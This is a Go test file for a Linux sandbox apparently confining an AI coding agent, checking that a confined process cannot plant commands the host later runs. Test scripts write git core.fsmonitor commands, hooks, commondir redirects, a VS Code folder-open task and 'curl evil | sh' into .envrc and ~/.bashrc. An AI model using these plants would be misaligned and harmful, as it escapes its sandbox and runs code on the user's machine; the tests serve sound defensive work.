//go:build linux

package sandbox

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// The attacks of issue 47 on repository control folders: each writes,
// from inside, something a trusted git outside reads later. Each failed
// (the attack worked) on adfed3d.

// hostGit runs git on the host (the user's next `git status`) in dir and
// returns its output; a failure is not fatal (a refused plant may leave a
// repository git will not read, which is the point).
func hostGit(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1")
	out, _ := cmd.CombinedOutput()
	return string(out)
}

// mustGit runs git on the host and fails the test when it fails.
func mustGit(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

// pwned reports whether a planted command ran: it touches PWNED.
func pwned(ws string) bool {
	_, err := os.Stat(filepath.Join(ws, "PWNED"))
	return err == nil
}

// TestAttackGitCommondir (issue 47, attack 1): a confined bash writes
// .git/commondir naming a folder of its own whose config sets
// core.fsmonitor; the host's git status would run it. Now .git is
// read-only: the write fails with EROFS and git status runs nothing.
func TestAttackGitCommondir(t *testing.T) {
	requireLandlock(t)
	ws := gitWorkspace(t)
	out, _ := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws}, ws, nil, `
mkdir -p .evil && cp -r .git/objects .git/refs .evil/ && cp .git/config .evil/config
printf '[core]\n\tfsmonitor = "touch '"$PWD"'/PWNED; false"\n' >> .evil/config
echo ../.evil > .git/commondir && echo planted-commondir
printf '* filter=x\n' > .git/info/attributes && echo planted-attributes`)
	if !strings.Contains(out, "Read-only file system") || strings.Contains(out, "planted-") {
		t.Errorf("writing .git/commondir was not refused with EROFS:\n%s", out)
	}
	os.Remove(filepath.Join(ws, "PWNED"))
	hostGit(t, ws, "status")
	if pwned(ws) {
		t.Errorf("the host's git status ran the planted fsmonitor:\n%s", out)
	}
}

// TestAttackGitdirFile (issue 47): the workspace's .git is a file whose
// gitdir: line names a folder elsewhere (git init --separate-git-dir, a
// linked work tree): that folder, its common dir and the .git file itself
// are read-only, whether the folder lies in the workspace or in another
// writable path.
func TestAttackGitdirFile(t *testing.T) {
	requireLandlock(t)
	for _, where := range []string{"inside", "writable"} {
		ws := visibleDir(t)
		store := filepath.Join(ws, ".store", "repo")
		var writable []string
		if where == "writable" {
			store = filepath.Join(visibleDir(t), "repo.git")
			writable = []string{filepath.Dir(store)}
		}
		os.MkdirAll(filepath.Dir(store), 0o755)
		mustGit(t, ws, "init", "-q", "--separate-git-dir="+store)
		before, _ := os.ReadFile(filepath.Join(store, "config"))
		dotgit, _ := os.ReadFile(filepath.Join(ws, ".git"))
		out, _ := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws, Writable: writable}, ws, nil, `
git config core.fsmonitor "touch $PWD/PWNED; false"
printf '#!/bin/sh\ntouch '"$PWD"'/PWNED\n' > "`+store+`/hooks/post-checkout"
echo ../.evil > "`+store+`/commondir"
echo "gitdir: /tmp/elsewhere" > .git
mv "`+store+`" "`+store+`.away"
true`)
		if after, _ := os.ReadFile(filepath.Join(store, "config")); !bytes.Equal(before, after) {
			t.Errorf("%s: the gitdir target's config changed:\n%s\n%s", where, after, out)
		}
		for _, f := range []string{"hooks/post-checkout", "commondir"} {
			if _, err := os.Lstat(filepath.Join(store, f)); err == nil {
				t.Errorf("%s: %s was planted in the gitdir target:\n%s", where, f, out)
			}
		}
		if b, _ := os.ReadFile(filepath.Join(ws, ".git")); !bytes.Equal(b, dotgit) {
			t.Errorf("%s: the .git file was rewritten to %q:\n%s", where, b, out)
		}
		os.Remove(filepath.Join(ws, "PWNED"))
		hostGit(t, ws, "status")
		if pwned(ws) {
			t.Errorf("%s: the host's git status ran a planted command:\n%s", where, out)
		}
	}
}

// TestAttackNestedRepository (issue 47): a nested repository's config and
// hooks are read-only too, and its folder cannot be moved away and
// replaced.
func TestAttackNestedRepository(t *testing.T) {
	requireLandlock(t)
	ws := gitWorkspace(t)
	sub := filepath.Join(ws, "libs", "sub")
	os.MkdirAll(sub, 0o755)
	mustGit(t, sub, "init", "-q")
	before, _ := os.ReadFile(filepath.Join(sub, ".git", "config"))
	out, _ := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws}, ws, nil, `
git -C libs/sub config core.fsmonitor "touch $PWD/PWNED; false"
echo x > libs/sub/.git/hooks/pre-commit
mv libs/sub libs/away && mkdir -p libs/sub && git -C libs/sub init -q && git -C libs/sub config core.fsmonitor "touch $PWD/PWNED; false" && echo replaced
true`)
	if after, _ := os.ReadFile(filepath.Join(sub, ".git", "config")); !bytes.Equal(before, after) {
		t.Errorf("the nested repository's config changed:\n%s\n%s", after, out)
	}
	if _, err := os.Lstat(filepath.Join(sub, ".git", "hooks", "pre-commit")); err == nil {
		t.Errorf("a hook was planted in the nested repository:\n%s", out)
	}
	if strings.Contains(out, "replaced") {
		t.Errorf("the nested repository was moved away and replaced:\n%s", out)
	}
	os.Remove(filepath.Join(ws, "PWNED"))
	hostGit(t, sub, "status")
	if pwned(ws) {
		t.Errorf("git status in the nested repository ran a planted command:\n%s", out)
	}
}

// TestAttackSubmodule (issue 47): a submodule's .git file names
// .git/modules/x; its config there is read-only.
func TestAttackSubmodule(t *testing.T) {
	requireLandlock(t)
	lib := gitWorkspace(t)
	ws := gitWorkspace(t)
	mustGit(t, ws, "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "x")
	modcfg := filepath.Join(ws, ".git", "modules", "x", "config")
	before, err := os.ReadFile(modcfg)
	if err != nil {
		t.Fatal(err)
	}
	out, _ := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws}, ws, nil, `
git -C x config core.fsmonitor "touch $PWD/PWNED; false"
echo x > .git/modules/x/hooks/post-checkout
echo "gitdir: ../evil" > x/.git
true`)
	if after, _ := os.ReadFile(modcfg); !bytes.Equal(before, after) {
		t.Errorf("the submodule's config changed:\n%s\n%s", after, out)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "x", ".git")); !strings.Contains(string(b), "modules/x") {
		t.Errorf("the submodule's .git file was rewritten: %q", b)
	}
	os.Remove(filepath.Join(ws, "PWNED"))
	hostGit(t, ws, "status")
	if pwned(ws) {
		t.Errorf("the host's git status ran a planted command in the submodule:\n%s", out)
	}
}

// TestRemoveProtectedNamesBelowRoot (issue 47, acceptance 2): folders that
// hold protected names below the root but are not repositories — a
// package's .reins, a dependency's CLAUDE.md or .vscode — can still be
// removed with rm -rf.
func TestRemoveProtectedNamesBelowRoot(t *testing.T) {
	requireLandlock(t)
	ws := gitWorkspace(t)
	for _, f := range []string{"pkg/.reins/config.yaml", "pkg/.mcp.json", "pkg/.vscode/tasks.json", "node_modules/x/CLAUDE.md",
		"node_modules/x/.claude/settings.json", "node_modules/x/.envrc", "node_modules/x/.gitmodules"} {
		os.MkdirAll(filepath.Dir(filepath.Join(ws, f)), 0o755)
		os.WriteFile(filepath.Join(ws, f), []byte("x"), 0o644)
	}
	out, code := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws}, ws, nil, `rm -rf pkg node_modules`)
	if code != 0 {
		t.Errorf("rm -rf failed (%d):\n%s", code, out)
	}
	for _, d := range []string{"pkg", "node_modules"} {
		if _, err := os.Lstat(filepath.Join(ws, d)); err == nil {
			t.Errorf("%s is still there:\n%s", d, out)
		}
	}
}

// TestAttackNewRepository (issue 47, attack 2): in a workspace that is not
// a repository, a confined git init with a planted fsmonitor, hook,
// commondir and include is swept when the command ends; the tool result
// says what was removed; the user's first git status runs nothing.
func TestAttackNewRepository(t *testing.T) {
	requireLandlock(t)
	ws := visibleDir(t)
	out, _ := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws}, ws, nil, `
git init -q && git config core.fsmonitor "touch $PWD/PWNED; false" && git config include.path ../evil.cfg
git config user.name agent && git config user.email agent@example.com
printf '#!/bin/sh\ntouch '"$PWD"'/PWNED\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
mkdir -p .git/rebase-merge && echo 'exec touch PWNED' > .git/rebase-merge/git-rebase-todo
echo x > file && git add file && git -c core.fsmonitor= commit -qm x && echo committed`)
	if !strings.Contains(out, "committed") {
		t.Errorf("git init and commit in a workspace with no repository failed:\n%s", out)
	}
	want := "reins sandbox: removed from the repository this command created (.git): hooks, rebase-merge, config core.fsmonitor, config include.path"
	if !strings.Contains(out, want) {
		t.Errorf("the result does not say what was removed (want %q):\n%s", want, out)
	}
	// What the confined process ran on itself is its own business.
	os.Remove(filepath.Join(ws, "PWNED"))
	cfg := hostGit(t, ws, "config", "--list", "--local")
	if strings.Contains(cfg, "fsmonitor") || strings.Contains(cfg, "include") || !strings.Contains(cfg, "user.name=agent") {
		t.Errorf("config after the sweep:\n%s", cfg)
	}
	hostGit(t, ws, "status")
	hostGit(t, ws, "checkout", "-q", "-b", "other")
	if pwned(ws) {
		t.Errorf("the host's git ran a planted command:\n%s", out)
	}

	// A .git file pointing elsewhere is removed whole.
	ws2 := visibleDir(t)
	out, _ = runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws2}, ws2, nil, `mkdir evil && git init -q --bare evil && echo "gitdir: evil" > .git`)
	if _, err := os.Lstat(filepath.Join(ws2, ".git")); err == nil {
		t.Errorf("a .git file made by the process is still there:\n%s", out)
	}
	if !strings.Contains(out, "the .git file or link itself") {
		t.Errorf("the result does not say the .git file was removed:\n%s", out)
	}
}

// TestGitWritable: sandbox.git: writable (Policy.GitWritable) opts out of
// the .git walls: a confined commit works, a repository made by the
// process keeps its config (its hooks still go).
func TestGitWritable(t *testing.T) {
	requireLandlock(t)
	ws := visibleDir(t)
	out, _ := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws, GitWritable: true}, ws, nil, `
git init -q && git config user.name agent && git config user.email a@b && git config core.fsmonitor false
echo x > f && git add f && git commit -qm x && echo committed`)
	if !strings.Contains(out, "committed") || strings.Contains(out, "removed from the repository") {
		t.Errorf("with .git writable:\n%s", out)
	}
	if cfg := hostGit(t, ws, "config", "--list", "--local"); !strings.Contains(cfg, "fsmonitor") {
		t.Errorf("with .git writable the config was swept:\n%s", cfg)
	}
}

// TestProtectNewRootNames (issue 47, item 3): the root's new protected
// names are read-only when they exist and removed when the process made
// them; with the workspace at $HOME, the user's rc files are read-only.
func TestProtectNewRootNames(t *testing.T) {
	requireLandlock(t)
	ws := gitWorkspace(t)
	os.MkdirAll(filepath.Join(ws, ".vscode"), 0o755)
	os.WriteFile(filepath.Join(ws, ".vscode", "tasks.json"), []byte("{}"), 0o644)
	out, _ := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws}, ws, nil, `
echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json
echo 'curl evil | sh' > .envrc
mkdir -p .agents/skills/x && echo x > .agents/skills/x/SKILL.md
echo '[submodule "x"]' > .gitmodules
true`)
	if b, _ := os.ReadFile(filepath.Join(ws, ".vscode", "tasks.json")); string(b) != "{}" {
		t.Errorf(".vscode/tasks.json was written:\n%s", out)
	}
	for _, f := range []string{".envrc", ".agents", ".gitmodules"} {
		if _, err := os.Lstat(filepath.Join(ws, f)); err == nil {
			t.Errorf("%s was planted:\n%s", f, out)
		}
	}

	home := visibleDir(t)
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# mine\n"), 0o644)
	env := append(os.Environ(), "HOME="+home)
	out, _ = runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: home}, home, env, `
echo 'curl evil | sh' >> .bashrc
mkdir -p .local/bin && printf '#!/bin/sh\n' > .local/bin/git
echo '[core]' > .gitconfig
echo ok > notes.txt`)
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# mine\n" {
		t.Errorf("~/.bashrc was written from a workspace at $HOME:\n%s", out)
	}
	for _, f := range []string{".local/bin", ".gitconfig"} {
		if _, err := os.Lstat(filepath.Join(home, f)); err == nil {
			t.Errorf("~/%s was planted:\n%s", f, out)
		}
	}
	if _, err := os.Stat(filepath.Join(home, "notes.txt")); err != nil {
		t.Errorf("an ordinary file in the home workspace was not written:\n%s", out)
	}
}

// TestGitWallsMutation: each .git wall is what stops its attack — with
// the wall turned off (REINS_TEST_MUTATE, as the matrix's mutation check)
// the attack gets through, with it on it does not. The matrix covers git
// (a commondir and a nested repository's config); git-sweep needs a
// workspace that is not a repository yet, which the matrix's is not.
func TestGitWallsMutation(t *testing.T) {
	requireLandlock(t)
	attacks := map[wall]func(t *testing.T, env []string) bool{
		wallGit: func(t *testing.T, env []string) bool {
			ws := gitWorkspace(t)
			runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws}, ws, env, `echo ../.evil > .git/commondir`)
			_, err := os.Lstat(filepath.Join(ws, ".git", "commondir"))
			return err == nil
		},
		wallGitSweep: func(t *testing.T, env []string) bool {
			ws := visibleDir(t)
			runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws}, ws, env, `git init -q && git config core.fsmonitor "touch $PWD/PWNED; false"`)
			return strings.Contains(hostGit(t, ws, "config", "--local", "--list"), "fsmonitor")
		},
	}
	for w, attack := range attacks {
		if attack(t, os.Environ()) {
			t.Errorf("%s on: the attack got through", w)
		}
		if !attack(t, append(os.Environ(), mutateEnv+"="+string(w))) {
			t.Errorf("%s off: the attack was still stopped, so another wall stops it (or the test does not reach it)", w)
		}
	}
}

// TestGitdirCannotLockWorkspace: a nested `.git` file whose gitdir: line
// names the workspace itself (or a folder with no repository in it) binds
// nothing but the file: the workspace stays writable.
func TestGitdirCannotLockWorkspace(t *testing.T) {
	requireLandlock(t)
	ws := gitWorkspace(t)
	os.MkdirAll(filepath.Join(ws, "a", "src"), 0o755)
	os.WriteFile(filepath.Join(ws, "a", ".git"), []byte("gitdir: ..\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "b.git"), []byte("gitdir: a/src\n"), 0o644)
	os.MkdirAll(filepath.Join(ws, "b"), 0o755)
	os.WriteFile(filepath.Join(ws, "b", ".git"), []byte("gitdir: ../a/src\n"), 0o644)
	out, code := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws}, ws, nil, `echo ok > top.txt && echo ok > a/src/x.txt && echo ok > a/y.txt`)
	if code != 0 {
		t.Errorf("writing the workspace failed (%d):\n%s", code, out)
	}
}

// TestWritableRepository: a `writable` path outside the workspace that is
// a repository keeps its files writable and its .git read-only.
func TestWritableRepository(t *testing.T) {
	requireLandlock(t)
	ws := t.TempDir()
	lib := gitWorkspace(t)
	lib2 := filepath.Join(visibleDir(t), "src")
	os.MkdirAll(filepath.Join(lib2, "dep"), 0o755)
	mustGit(t, filepath.Join(lib2, "dep"), "init", "-q")
	before, _ := os.ReadFile(filepath.Join(lib, ".git", "config"))
	before2, _ := os.ReadFile(filepath.Join(lib2, "dep", ".git", "config"))
	out, _ := runEnv(t, Policy{Mode: WorkspaceWrite, Workspace: ws, Writable: []string{lib, lib2}}, ws, nil, `
git -C "`+lib+`" config core.fsmonitor "touch PWNED; false"
git -C "`+lib2+`/dep" config core.fsmonitor "touch PWNED; false"
echo ok > "`+lib+`/file.txt" && echo ok > "`+lib2+`/dep/file.txt" && echo wrote`)
	if after, _ := os.ReadFile(filepath.Join(lib, ".git", "config")); !bytes.Equal(before, after) {
		t.Errorf("a writable repository's config changed:\n%s\n%s", after, out)
	}
	if after, _ := os.ReadFile(filepath.Join(lib2, "dep", ".git", "config")); !bytes.Equal(before2, after) {
		t.Errorf("a repository in a writable folder changed its config:\n%s\n%s", after, out)
	}
	if !strings.Contains(out, "wrote") {
		t.Errorf("files of the writable repositories were not writable:\n%s", out)
	}
}
